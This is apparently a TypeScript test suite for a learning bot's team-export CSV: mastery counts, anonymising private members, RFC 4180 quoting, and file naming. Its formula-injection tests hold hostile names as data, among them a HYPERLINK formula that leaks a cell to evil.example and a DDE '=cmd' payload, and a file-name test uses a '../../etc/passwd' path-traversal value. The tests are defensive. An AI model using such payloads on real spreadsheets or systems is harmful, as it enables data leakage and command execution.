import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { cardStanding } from "../../core/charts/mastery-data.js";
import { buildCatalog, type Catalog } from "../../core/content/catalog.js";
import type { TeamTotals } from "../../core/ports.js";
import { review, type SrsCard } from "../../core/srs.js";
import { EMPTY_STREAK, type StreakState } from "../../core/streak.js";
import { safeLabel, TEAM_EXPORT_COLUMNS, teamExportCsv, type ExportMember } from "../../core/team-export.js";

const now = new Date("2026-11-20T12:00:00Z");
const DAY = 86_400_000;
const daysAgo = (n: number) => new Date(now.getTime() - n * DAY);

const question = (id: string, concepts: string[]) => ({
  id,
  type: "single",
  difficulty: "intro",
  concepts,
  source: { file: "f", section: "s" },
  stem: `${id}?`,
  explanation: "e",
  options: ["a", "b", "c"].map((o) => ({ id: o, text: `${id}-${o}`, explanation: o })),
  answer: "a",
});
const lessonData = (id: string, order: number, title: string, concepts: string[], questions: unknown[]) => ({
  id,
  order,
  title,
  concepts,
  cards: [{ body: "b" }],
  takeaways: ["t"],
  sources: [{ file: "f", section: "s" }],
  questions,
});

function testCatalog(): Catalog {
  const r = buildCatalog([
    {
      manifest: {
        file: "pack.yaml",
        data: {
          id: "db",
          title: "Databases",
          concepts: [
            { id: "idx", title: "Indexes, B-trees" },
            { id: "rep", title: "Replication" },
            { id: "unused", title: "Never asked" },
          ],
          practice: [{ id: "mixed", title: "Mixed practice", questions: [question("m1", ["idx", "rep"])] }],
        },
      },
      // Listed out of course order: the export follows `order`.
      lessons: [
        { file: "rep.yaml", data: lessonData("l-rep", 2, 'Read replicas, "lag"', ["rep"], [question("r1", ["rep"])]) },
        { file: "idx.yaml", data: lessonData("l-idx", 1, "Indexes that fit the query", ["idx"], [question("i1", ["idx"]), question("i2", ["idx"]), question("i3", ["idx", "rep"])]) },
      ],
    },
  ]);
  if (!r.ok) throw new Error(JSON.stringify(r.problems));
  return r.catalog;
}

const catalog = testCatalog();

/** A card reviewed at these times (days before `now`, right or wrong), in order, through core's own FSRS review. */
function reviewed(steps: readonly (readonly [number, boolean])[]): SrsCard {
  let card: SrsCard | null = null;
  for (const [days, correct] of steps) card = review(card, daysAgo(days), correct);
  return card!;
}
/** Right twice, 15 minutes apart, `days` ago: out of FSRS's learning steps, in Review with its first stability (~2.3 days). */
const learned = (days: number) => reviewed([[days, true], [days - 15 / 1440, true]]);
/** Answered wrong once `days` ago: still in learning steps, so seen, never mastered. */
const missed = (days: number) => reviewed([[days, false]]);

const streak = (s: Partial<StreakState>): StreakState => ({ ...EMPTY_STREAK, ...s });

function member(m: Partial<ExportMember> & { learnerId: string; name: string }): ExportMember {
  return { private: false, answered: 0, correct: 0, streak: EMPTY_STREAK, cards: {}, ...m };
}

const ann = member({
  learnerId: "discord:g1:u-ann",
  name: "Ann",
  answered: 3,
  correct: 2,
  streak: streak({ current: 3, longest: 5, lastActive: "2026-11-19" }),
  cards: { i1: learned(1), i2: learned(1), r1: missed(1) },
});
const bob = member({
  learnerId: "discord:g1:u-bob",
  name: "bob",
  answered: 1,
  correct: 1,
  // Last studied ten days ago with no freezes: the stored 4 no longer stands.
  streak: streak({ current: 4, longest: 4, lastActive: "2026-11-10" }),
  cards: { i3: learned(40) },
});
const sam = member({ learnerId: "discord:g1:u-secret-sam", name: "Samantha Secret", private: true, answered: 5, correct: 5, cards: { m1: learned(1) } });
// The store should already say "anonymous"; the export must not rely on it.
const hank = member({ learnerId: "discord:g1:u-hidden-hank", name: "Hank Hidden", private: true, answered: 7, correct: 3, streak: streak({ current: 2, longest: 9, lastActive: "2026-11-20" }) });

const totals: TeamTotals = {
  bySet: { "l-idx": { answered: 9, correct: 6 }, "l-rep": { answered: 4, correct: 1 }, challenge: { answered: 2, correct: 2 } },
  byConcept: { idx: { answered: 10, correct: 7 }, rep: { answered: 5, correct: 2 } },
};

type Parsed = Record<(typeof TEAM_EXPORT_COLUMNS)[number], string>;

function exportOf(members: ExportMember[], over: Partial<Parameters<typeof teamExportCsv>[0]> = {}) {
  const out = teamExportCsv({ catalog, members, totals, now, zone: "UTC", workspaceLabel: "discord:g1", ...over });
  const records = parse(out.csv, { bom: true, columns: true, strict: true } as never) as Parsed[];
  return { ...out, records, section: (s: string) => records.filter((r) => r.section === s) };
}

describe("team export CSV", () => {
  it("has one header of the documented columns, CRLF line ends and a UTF-8 BOM", () => {
    const out = exportOf([ann, bob]);
    expect(out.csv.startsWith("\uFEFF")).toBe(true);
    const lines = out.csv.slice(1).split("\r\n");
    expect(lines[0]).toBe(TEAM_EXPORT_COLUMNS.join(","));
    expect(lines.at(-1)).toBe("");
    // No bare LF or CR anywhere: every line ends with CRLF.
    expect(out.csv.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
    expect(lines.length - 2).toBe(out.records.length);
    expect(out.records.length).toBe(2 + 4 + 3);
  });

  it("learner rows: answers, accuracy, streak as it stands today, cards seen and mastered", () => {
    const [a, b] = exportOf([bob, ann]).section("learner");
    expect(a).toMatchObject({ name: "Ann", id: "", answers: "3", correct: "2", accuracy: "0.667", current_streak: "3", longest_streak: "5" });
    // Every course question is a card: 3 + 1 + 1 = 5; Ann reviewed 3, two of them right yesterday.
    expect(a).toMatchObject({ cards: "5", cards_seen: "3", cards_mastered: "2", seen_share: "0.600", mastered_share: "0.400" });
    expect(b).toMatchObject({ name: "bob", answers: "1", accuracy: "1.000", current_streak: "0", longest_streak: "4", cards_seen: "1", cards_mastered: "0" });
  });

  it("a learner without answers has an empty accuracy, not 0", () => {
    const [row] = exportOf([member({ learnerId: "slack:T1:U1", name: "New" })]).section("learner");
    expect(row).toMatchObject({ answers: "0", accuracy: "", current_streak: "0", cards_seen: "0", mastered_share: "0.000" });
  });

  it("the current streak is counted in the learner's own zone when the store gives it", () => {
    const late = { learnerId: "slack:T1:U2", name: "Kiri", streak: streak({ current: 6, longest: 6, lastActive: "2026-11-19" }) };
    // 12:00 UTC on the 20th is already 01:00 on the 21st in Auckland: the 20th was missed and there is no freeze.
    const [utc] = exportOf([member(late)]).section("learner");
    const [auckland] = exportOf([member({ ...late, timezone: "Pacific/Auckland" })]).section("learner");
    expect(utc!.current_streak).toBe("6");
    expect(auckland!.current_streak).toBe("0");
  });

  it("lesson rows: course order, all-time answers, mastery across every member's cards, then stray sets", () => {
    const rows = exportOf([ann, bob]).section("lesson");
    expect(rows.map((r) => [r.id, r.name])).toEqual([
      ["l-idx", "Indexes that fit the query"],
      ["l-rep", 'Read replicas, "lag"'],
      ["mixed", "Mixed practice"],
      ["challenge", "Challenges"],
    ]);
    // l-idx: 3 questions x 2 members = 6 cards; Ann's i1, i2 mastered, Bob's i3 seen 40 days ago.
    expect(rows[0]).toMatchObject({ answers: "9", correct: "6", accuracy: "0.667", cards: "6", cards_seen: "3", cards_mastered: "2", seen_share: "0.500", mastered_share: "0.333" });
    expect(rows[1]).toMatchObject({ answers: "4", accuracy: "0.250", cards: "2", cards_seen: "1", cards_mastered: "0", mastered_share: "0.000" });
    expect(rows[2]).toMatchObject({ answers: "0", accuracy: "", cards: "2", cards_seen: "0" });
    // Written challenges are not course questions: answers, but no cards.
    expect(rows[3]).toMatchObject({ answers: "2", accuracy: "1.000", cards: "", mastered_share: "" });
  });

  it("concept rows: catalog order, a question counted for each of its concepts", () => {
    const rows = exportOf([ann, bob, sam]).section("concept");
    expect(rows.map((r) => [r.id, r.name])).toEqual([
      ["idx", "Indexes, B-trees"],
      ["rep", "Replication"],
      ["unused", "Never asked"],
    ]);
    // idx: i1 i2 i3 m1 = 4 questions x 3 members; mastered: Ann i1 i2, Sam m1.
    expect(rows[0]).toMatchObject({ answers: "10", accuracy: "0.700", cards: "12", cards_seen: "4", cards_mastered: "3", mastered_share: "0.250" });
    // rep: i3 r1 m1 x 3 = 9; seen: Bob i3, Ann r1, Sam m1; mastered: Sam m1.
    expect(rows[1]).toMatchObject({ answers: "5", cards: "9", cards_seen: "3", cards_mastered: "1", mastered_share: "0.111" });
    expect(rows[2]).toMatchObject({ answers: "0", accuracy: "", cards: "0", seen_share: "", mastered_share: "" });
  });

  it("mastery counts agree with core's cardStanding for cards made by FSRS reviews at many ages", () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.dictionary(
            fc.constantFrom("i1", "i2", "i3", "r1", "m1"),
            // Reviews a few hours to weeks apart, the last 0-120 days ago.
            fc.record({ last: fc.integer({ min: 0, max: 120 }), gaps: fc.array(fc.tuple(fc.double({ min: 0.01, max: 20, noNaN: true }), fc.boolean()), { minLength: 1, maxLength: 5 }) }),
            { maxKeys: 5 },
          ),
          { minLength: 1, maxLength: 4 },
        ),
        (plans) => {
          const card = ({ last, gaps }: { last: number; gaps: [number, boolean][] }) => {
            let at = last + gaps.reduce((t, [g]) => t + g, 0);
            return reviewed(gaps.map(([g, ok]) => [(at -= g), ok] as const));
          };
          const members = plans.map((plan, i) => member({ learnerId: `shell:local:u${i}`, name: `L${i}`, cards: Object.fromEntries(Object.entries(plan).map(([q, p]) => [q, card(p)])) }));
          const rows = exportOf(members).section("lesson");
          const idx = rows.find((r) => r.id === "l-idx")!;
          const standings = members.flatMap((m) => ["i1", "i2", "i3"].map((q) => cardStanding(m.cards[q], now)));
          const mastered = standings.filter((s) => s === "mastered").length;
          expect(Number(idx.cards_mastered)).toBe(mastered);
          expect(Number(idx.cards_seen)).toBe(standings.filter((s) => s !== "not-seen").length);
          expect(idx.mastered_share).toBe((mastered / standings.length).toFixed(3));
          const learnerMastered = exportOf(members).section("learner").reduce((n, r) => n + Number(r.cards_mastered), 0);
          const allMastered = members.flatMap((m) => Object.values(m.cards)).filter((c) => cardStanding(c, now) === "mastered").length;
          expect(learnerMastered).toBe(allMastered);
        },
      ),
      { numRuns: 60 },
    );
  });

  it("FSRS's own curve decides: a card learned yesterday is mastered; one learned a month ago, or just missed, is only seen", () => {
    expect(cardStanding(learned(1), now)).toBe("mastered");
    expect(cardStanding(learned(30), now)).toBe("seen");
    expect(cardStanding(missed(0), now)).toBe("seen");
    const one = (card: SrsCard) => exportOf([member({ learnerId: "a", name: "A", cards: { i1: card } })]).section("learner")[0]!;
    expect(one(learned(1)).cards_mastered).toBe("1");
    expect(one(learned(30))).toMatchObject({ cards_seen: "1", cards_mastered: "0" });
    expect(one(missed(0))).toMatchObject({ cards_seen: "1", cards_mastered: "0" });
  });
});

describe("team export privacy", () => {
  it("private members are all 'anonymous', after the named ones; their names and ids appear nowhere", () => {
    const out = exportOf([hank, ann, sam, bob]);
    expect(out.section("learner").map((r) => r.name)).toEqual(["Ann", "bob", "anonymous", "anonymous"]);
    for (const secret of ["Samantha", "Secret", "Hank", "Hidden", "u-secret-sam", "u-hidden-hank", "discord:g1:u-"]) expect(out.csv).not.toContain(secret);
    expect(out.rows).toMatchObject({ learners: 4, anonymous: 2 });
    expect(out.description).toContain("(2 anonymous)");
  });

  it("anonymous rows are ordered by their figures only, whatever the input order or ids", () => {
    const a = exportOf([sam, hank]);
    const b = exportOf([{ ...hank, learnerId: "zzz" }, { ...sam, learnerId: "aaa" }]);
    expect(a.csv).toBe(b.csv);
    // Most answers first.
    expect(a.section("learner").map((r) => r.answers)).toEqual(["7", "5"]);
  });

  it("no private name or id leaks for any names and ids (property)", () => {
    fc.assert(
      fc.property(
        fc.array(fc.record({ name: fc.string({ maxLength: 20 }), id: fc.string({ minLength: 1, maxLength: 12 }), isPrivate: fc.boolean(), answered: fc.nat(50) }), { maxLength: 8 }),
        (people) => {
          const members = people.map((p, i) =>
            member({
              learnerId: `slack:T1:SECRETID${i}${p.id}`,
              name: p.isPrivate ? `PRIVATE${i}-${p.name}` : `named-${p.name}`,
              private: p.isPrivate,
              answered: p.answered,
            }),
          );
          const out = exportOf(members);
          expect(out.csv).not.toContain("PRIVATE");
          expect(out.csv).not.toContain("SECRETID");
          const names = out.section("learner").map((r) => r.name);
          expect(names.filter((n) => n === "anonymous")).toHaveLength(members.filter((m) => m.private).length);
          expect(names.slice(names.length - out.rows.anonymous).every((n) => n === "anonymous")).toBe(true);
        },
      ),
    );
  });
});

describe("team export quoting and formula injection", () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    'Eve, "the" hacker',
    "two\nlines",
    "cr\ronly",
    "crlf\r\nname",
    "＝fullwidth",
    "O'Brien",
  ];
  const members = hostile.map((name, i) => member({ learnerId: `discord:g1:h${i}`, name, answered: i }));

  it("every hostile name survives a round trip through a real CSV parser, formulas defused with a leading apostrophe", () => {
    const out = exportOf(members);
    const parsed = new Set(out.section("learner").map((r) => r.name));
    for (const name of hostile) {
      const starts = /^[=+\-@\t\r＝]/.test(name);
      expect(parsed.has(starts ? `'${name}` : name), JSON.stringify(name)).toBe(true);
    }
    for (const record of out.records) for (const value of Object.values(record)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("fields with commas, quotes or line breaks are quoted with inner quotes doubled (RFC 4180)", () => {
    const out = exportOf(members);
    expect(out.csv).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")",`);
    expect(out.csv).toContain(`,"Eve, ""the"" hacker",`);
    expect(out.csv).toContain(`,"two\nlines",`);
    expect(out.csv).toContain(`,"cr\ronly",`);
    expect(out.csv).toContain(`,"Read replicas, ""lag""",`);
    expect(out.csv).toContain(",O'Brien,");
  });

  it("any display name round-trips (property)", () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.string({ maxLength: 30 }), fc.string({ unit: "grapheme", maxLength: 30 })), { minLength: 1, maxLength: 6 }), (names) => {
        const ms = names.map((name, i) => member({ learnerId: `x${i}`, name }));
        const out = exportOf(ms);
        const shown = (n: string) => (n.trim() === "" ? "(no name)" : /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(n) ? `'${n}` : n);
        expect(out.section("learner").map((r) => r.name).sort()).toEqual(names.map(shown).sort());
        expect(out.records.length).toBe(names.length + 4 + 3);
      }),
    );
  });
});

describe("team export file name and description", () => {
  it("names the workspace safely and the date in the given zone", () => {
    const late = new Date("2026-11-20T23:30:00Z");
    expect(exportOf([ann], { now: late, zone: "UTC" }).fileName).toBe("drillbot-team-discord-g1-2026-11-20.csv");
    expect(exportOf([ann], { now: late, zone: "Europe/Berlin" }).fileName).toBe("drillbot-team-discord-g1-2026-11-21.csv");
    expect(exportOf([ann], { workspaceLabel: "../../etc/passwd" }).fileName).toBe("drillbot-team-etc-passwd-2026-11-20.csv");
    expect(safeLabel("Équipe Données")).toBe("equipe-donnees");
    expect(safeLabel("東京")).toBe("workspace");
  });

  it("describes what is in the file", () => {
    expect(exportOf([ann, bob, sam]).description).toBe(
      "Team export for discord:g1: 3 learners (1 anonymous), 4 lessons and practice sets, 3 concepts",
    );
    expect(exportOf([ann]).description).toBe("Team export for discord:g1: 1 learner, 4 lessons and practice sets, 3 concepts");
  });
});
